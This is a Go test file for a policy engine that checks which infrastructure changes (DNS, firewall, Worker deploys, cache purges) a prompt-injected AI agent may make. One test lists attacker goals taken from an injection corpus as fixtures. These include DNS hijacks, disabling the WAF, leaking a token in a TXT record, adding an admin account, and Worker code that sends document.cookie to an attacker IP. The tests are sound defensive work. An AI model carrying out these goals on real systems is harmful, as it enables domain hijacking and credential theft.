package policy

import (
	"context"
	"fmt"
	"testing"

	"github.com/driftdeck/driftdeck/agent/infra"
)

func TestGeneralRules(t *testing.T) {
	e := newEngine(t, "")
	creates := func(n int) []infra.Change {
		var out []infra.Change
		for i := range n {
			out = append(out, change(infra.DNSCreate, "example.net", "", nil, rec("A", fmt.Sprintf("h%d.example.net", i), "192.0.2.1")))
		}
		return out
	}
	deploy := func(zone, route string) Input {
		return input(EffectWrite, change(infra.WorkerDeploy, zone, "edge", nil, infra.WorkerDeployment{ScriptName: "edge", Source: "export default {}", RoutePattern: route}))
	}
	purge := func(zone string, p infra.PurgeRequest) Input {
		return input(EffectWrite, change(infra.CachePurge, zone, "cache", nil, p))
	}
	scoped := Config{ScopeZones: []string{"example.net"}}
	executing := input(EffectWrite, change(infra.DNSCreate, "example.com", "", nil, rec("A", "www.example.com", "203.0.113.66")))
	executing.Phase = PhaseExecute
	cases := []struct {
		name string
		in   Input
		want expect
	}{
		{"no changes", input(EffectWrite), expect{Deny, 0, "no changes"}},
		{"unknown kind", input(EffectWrite, change("account.member_add", "", "admin", nil, map[string]string{"email": "ops-backup@example.net"})), expect{Deny, 0, "unknown change kind"}},
		{"zone outside scope", withConfig(input(EffectWrite, change(infra.DNSCreate, "example.com", "", nil, rec("TXT", "t.example.com", "x"))), scoped), expect{Deny, 0, "outside the zones driftdeck may change"}},
		{"zone inside scope", withConfig(input(EffectWrite, change(infra.DNSCreate, "Example.NET", "", nil, rec("TXT", "t.example.net", "x"))), scoped), expect{Allow, 1, ""}},
		{"worker route outside scope", withConfig(deploy("", "*.example.com/*"), scoped), expect{Deny, 0, "route *.example.com/* is outside"}},
		{"worker route inside scope", withConfig(deploy("example.net", "https://api.example.net/v1/*"), scoped), expect{Allow, 1, ""}},
		{"destructive effect", input(EffectDestructive, change(infra.DNSCreate, "example.net", "", nil, rec("TXT", "t.example.net", "x"))), expect{RequireApprovals, 2, "destructive change"}},
		{"five changes", input(EffectWrite, creates(5)...), expect{Allow, 1, ""}},
		{"six changes are bulk", input(EffectWrite, creates(6)...), expect{RequireApprovals, 2, "bulk change: 6 changes"}},
		{"worker on production", deploy("example.com", "example.com/*"), expect{RequireApprovals, 2, "Worker deploy"}},
		{"worker without a zone", deploy("", ""), expect{RequireApprovals, 2, "Worker deploy"}},
		{"worker on staging", deploy("example.net", ""), expect{Allow, 1, ""}},
		{"purge everything on production", purge("example.com", infra.PurgeRequest{Everything: true}), expect{RequireApprovals, 2, "whole cache"}},
		{"purge URLs on production", purge("example.com", infra.PurgeRequest{URLs: []string{"https://example.com/a.css"}}), expect{Allow, 1, ""}},
		{"purge everything on staging", purge("example.net", infra.PurgeRequest{Everything: true}), expect{Allow, 1, ""}},
		{"execute phase decides the same", executing, expect{RequireApprovals, 2, "production"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) { check(t, e, tc.in, tc.want) })
	}
}

func TestEvaluateRejectsMalformedInput(t *testing.T) {
	e := newEngine(t, "")
	ok := input(EffectWrite, change(infra.DNSCreate, "example.net", "", nil, rec("TXT", "t.example.net", "x")))
	for name, mutate := range map[string]func(*Input){
		"phase":  func(in *Input) { in.Phase = "later" },
		"effect": func(in *Input) { in.Effect = "read" },
		"cidr":   func(in *Input) { in.Config.AllowedCIDRs = []string{"10.0.0.0/33"} },
	} {
		in := ok
		mutate(&in)
		d, err := e.Evaluate(context.Background(), in)
		if err == nil {
			t.Errorf("%s: no error for malformed input", name)
		}
		if d.Decision != Deny {
			t.Errorf("%s: decision %q alongside the error, want deny (fail closed)", name, d.Decision)
		}
	}
}

// TestAttackerGoalsAreDeniedOrEscalated maps the goals of the development
// injection corpus onto the proposals an injected agent would make: none
// may pass with a single approval.
func TestAttackerGoalsAreDeniedOrEscalated(t *testing.T) {
	e := newEngine(t, "")
	var deleteAll []infra.Change
	for _, r := range []infra.DNSRecord{rec("NS", "example.com", "ns1.example.com"), rec("A", "example.com", "192.0.2.1"), rec("A", "www.example.com", "192.0.2.1"), rec("MX", "example.com", "mx.example.com")} {
		deleteAll = append(deleteAll, change(infra.DNSDelete, "example.com", "r-"+r.Name, r, nil))
	}
	block := rule("block", `http.request.uri.path eq "/login"`, true)
	goals := map[string]Input{
		"delete every DNS record":        input(EffectDestructive, deleteAll...),
		"delete one record (destroy)":    input(EffectDestructive, change(infra.DNSDelete, "example.com", "r", rec("A", "api.example.com", "192.0.2.1"), nil)),
		"redirect www (DNS hijack)":      input(EffectWrite, change(infra.DNSUpdate, "example.com", "r", rec("A", "www.example.com", "192.0.2.1"), rec("A", "www.example.com", "203.0.113.66"))),
		"new record to attacker host":    input(EffectWrite, change(infra.DNSCreate, "example.com", "", nil, rec("CNAME", "login.example.com", "attacker.test"))),
		"security_level essentially_off": input(EffectWrite, change(infra.SettingEdit, "example.com", "security_level", nil, setting("security_level", "essentially_off"))),
		"disable WAF custom rules":       input(EffectWrite, change(infra.FirewallDisable, "example.com", "rule-1", block, nil)),
		"token in a TXT record":          input(EffectWrite, change(infra.DNSCreate, "example.com", "", nil, rec("TXT", "_debug.example.com", cfToken))),
		"block all traffic":              input(EffectWrite, change(infra.FirewallCreate, "example.com", "", nil, rule("block", "(true)", true))),
		"allow-list the attacker IP":     input(EffectWrite, change(infra.FirewallCreate, "example.com", "", nil, rule("skip", "ip.src eq 203.0.113.66", true))),
		"Worker with attacker code":      input(EffectWrite, change(infra.WorkerDeploy, "example.com", "edge", nil, infra.WorkerDeployment{ScriptName: "edge", Source: `fetch("https://203.0.113.66/c?d="+document.cookie)`})),
		"add an account administrator":   input(EffectWrite, change("account.member_add", "", "ops-backup@example.net", nil, map[string]string{"role": "Administrator"})),
		"purge everything":               input(EffectWrite, change(infra.CachePurge, "example.com", "cache", nil, infra.PurgeRequest{Everything: true})),
	}
	for name, in := range goals {
		d, err := e.Evaluate(context.Background(), in)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if d.Decision == Allow || (d.Decision == RequireApprovals && d.ApprovalsRequired < 2) {
			t.Errorf("%s: %s with %d approval(s); an attacker's goal must be denied or escalated", name, d.Decision, d.ApprovalsRequired)
		}
	}
}
